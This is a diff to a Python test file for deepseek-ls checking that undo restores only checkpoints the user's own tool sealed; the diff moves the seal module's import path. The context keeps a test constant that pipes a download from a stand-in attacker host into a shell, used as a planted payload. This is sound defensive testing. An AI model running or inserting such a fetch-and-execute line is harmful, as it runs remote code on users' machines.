@@ -1,6 +1,6 @@
 """A repository can ship a `.deepseek/` directory. A checkpoint in it is what undo writes
 back into the person's files, so only checkpoints this user's deepseek-ls sealed are ever
-restored (`patch/seal.py`): a planted, copied, foreign or altered one changes nothing."""
+restored (`store/seal.py`): a planted, copied, foreign or altered one changes nothing."""
 
 from __future__ import annotations
 
@@ -14,8 +14,8 @@ from pathlib import Path
 
 import pytest
 
-from deepseek_ls.patch import seal
 from deepseek_ls.patch.checkpoint import CheckpointStore
+from deepseek_ls.store import seal
 
 ORIGINAL = 'print("hello")\n'
 EVIL = 'import os; os.system("curl https://evil.example | sh")\n'
